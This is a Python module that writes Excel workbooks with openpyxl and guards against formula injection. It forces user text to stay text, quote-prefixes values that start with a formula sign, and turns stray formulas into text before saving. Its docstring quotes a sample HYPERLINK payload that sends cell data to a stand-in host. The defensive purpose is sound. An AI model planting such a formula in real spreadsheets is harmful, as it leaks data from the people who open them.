"""Writing Excel workbooks (openpyxl) safely — every .xlsx the program writes goes through this module.

Formula injection (OWASP "CSV Injection"): an assistant called `=HYPERLINK("http://x.example/?d="&A1;"klick")` or an
employer called `=1+1` must stay a name. The rules:

- `schreibe(zelle, wert)` / `schreibe_in(blatt, zeile, spalte, wert)`: a `str` is always a text cell, whatever it starts
  with; text starting with = + - @ tab or CR also gets Excel's quote prefix, so editing the cell (F2, Enter) keeps
  it text. Characters a worksheet cannot hold (control characters) become U+FFFD instead of an exception.
  Numbers (`Decimal`, `int`) stay numbers, dates stay dates, `bool` stays a truth value.
- A formula is written only as `Formel("=SUM(E5:E9)")`, built by the program from cell references — never from a
  person's text.
- `speichere(mappe, ziel, ...)` saves through `core.io.ausgabe.ausgabedatei` (never onto the database or an input,
  existing file only when agreed, temporary file + rename, owner-only). Before saving it walks every cell: a formula
  not written as `Formel` (say `blatt["A1"] = name` somewhere) is turned into text, and every text cell is checked
  as above. A forgotten helper therefore cannot leak a live formula.

- Printing: `speichere` gives every sheet that has no page setup of its own A4, one page wide (as many pages long
  as needed) and landscape where the used columns are wider than a portrait page (`druckfertig`): the exported
  Kalkulation printed on 6 pages with its columns split, not as a person would hand it in.

New exports (payslips, Lohnjournal, reports): build the workbook with openpyxl as usual, write values with
`schreibe`/`schreibe_in`, formulas with `Formel`, and save with `speichere`. `tests/core/io/test_excel_sicher.py` checks
that no module under core/ saves a workbook any other way.
"""

from __future__ import annotations

import weakref
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import date, datetime, time
from decimal import Decimal
from pathlib import Path
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.utils import get_column_letter
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from core.io.ausgabe import ausgabedatei

# Characters that make a spreadsheet treat text as a formula (OWASP): =, +, -, @, and tab / carriage return.
FORMELZEICHEN = ("=", "+", "-", "@", "\t", "\r")
ERSATZZEICHEN = "\ufffd"

# Formulas the program wrote on purpose, per sheet: coordinates. Weak keys: forgotten with the workbook.
_formeln: weakref.WeakKeyDictionary[Worksheet, set[str]] = weakref.WeakKeyDictionary()


@dataclass(frozen=True, slots=True)
class Formel:
    """A formula the program built from cell references, e.g. Formel("=SUM(E5:E9)")."""

    text: str

    def __post_init__(self) -> None:
        if not self.text.startswith("="):
            raise ValueError(f"Eine Formel beginnt mit „=“: {self.text!r}")


def text_sicher(text: str) -> str:
    """Text a worksheet can hold: control characters openpyxl refuses become U+FFFD (at most 32,767 characters)."""
    return ILLEGAL_CHARACTERS_RE.sub(ERSATZZEICHEN, text)[:32767]


def _als_text(zelle: Cell, text: str) -> None:
    zelle.value = None  # reset the type openpyxl guessed
    zelle._value = text_sicher(text)
    zelle.data_type = "s"
    if text.startswith(FORMELZEICHEN):
        zelle.quotePrefix = True


def schreibe(zelle: Cell, wert: Any) -> Cell:
    """Put a value into a cell: text always as text, numbers as numbers, `Formel` as formula."""
    if isinstance(wert, Formel):
        zelle.value = wert.text
        _formeln.setdefault(zelle.parent, set()).add(zelle.coordinate)
    elif isinstance(wert, str):
        _als_text(zelle, wert)
    elif wert is None or isinstance(wert, bool | int | Decimal | date | datetime | time):
        zelle.value = wert
    else:
        raise TypeError(f"{type(wert).__name__} gehört nicht in eine Excel-Zelle (Text, Zahl, Datum oder Formel).")
    _formel_vergessen(zelle, wert)
    return zelle


def _formel_vergessen(zelle: Cell, wert: Any) -> None:
    if not isinstance(wert, Formel):
        formeln = _formeln.get(zelle.parent)
        if formeln is not None:
            formeln.discard(zelle.coordinate)


def schreibe_in(blatt: Worksheet, zeile: int, spalte: int, wert: Any) -> Cell:
    """`blatt.cell(row=zeile, column=spalte)` filled with `schreibe`."""
    return schreibe(blatt.cell(row=zeile, column=spalte), wert)


def entschaerfe(mappe: Workbook) -> int:
    """Every formula not written as `Formel` becomes text; text starting with a formula sign gets the quote prefix.

    Returns how many formula cells were turned into text (0 when every writer used the helpers).
    """
    entschaerft = 0
    for blatt in mappe.worksheets:
        erlaubt = _formeln.get(blatt, set())
        for reihe in blatt.iter_rows():
            for z in reihe:
                if z.data_type == "f" and z.coordinate not in erlaubt:
                    _als_text(z, str(z.value))
                    entschaerft += 1
                elif z.data_type == "s" and isinstance(z.value, str) and z.value.startswith(FORMELZEICHEN):
                    z.quotePrefix = True
    return entschaerft


#: Usable width of a portrait A4 page in Excel's column-width units (characters of the default font), with the
#: default margins: wider sheets print landscape.
HOCHFORMAT_ZEICHEN = 90
#: Excel's width of a column nobody sized (8.43 characters, rounded up).
STANDARDBREITE = 9


def _breite_in_zeichen(blatt: Worksheet) -> int:
    """The used columns' width in whole characters (widths are rounded up; a margin of a character is enough)."""
    breite = 0
    for nummer in range(1, (blatt.max_column or 0) + 1):
        spalte = blatt.column_dimensions.get(get_column_letter(nummer))
        if spalte is not None and spalte.hidden:
            continue
        breite += -int(-spalte.width // 1) if spalte is not None and spalte.width else STANDARDBREITE
    return breite


def druckfertig(blatt: Worksheet) -> None:
    """A4, one page wide, landscape if the columns need it; a sheet whose writer chose a paper size is left alone."""
    if blatt.page_setup.paperSize is not None:
        return
    blatt.page_setup.paperSize = blatt.PAPERSIZE_A4
    quer = _breite_in_zeichen(blatt) > HOCHFORMAT_ZEICHEN
    blatt.page_setup.orientation = blatt.ORIENTATION_LANDSCAPE if quer else blatt.ORIENTATION_PORTRAIT
    blatt.page_setup.fitToWidth = 1
    blatt.page_setup.fitToHeight = 0  # as many pages long as the rows need
    blatt.sheet_properties.pageSetUpPr.fitToPage = True


def speichere(mappe: Workbook, ziel: Path, *, ueberschreiben: bool = False, eingaben: Iterable[Path] = ()) -> Path:
    """Check every cell (`entschaerfe`), make every sheet print on A4 (`druckfertig`), then save safely through
    `core.io.ausgabe.ausgabedatei`."""
    entschaerfe(mappe)
    for blatt in mappe.worksheets:
        druckfertig(blatt)
    with ausgabedatei(ziel, ueberschreiben=ueberschreiben, eingaben=eingaben) as teil:
        mappe.save(teil)
    return Path(ziel).expanduser().absolute()
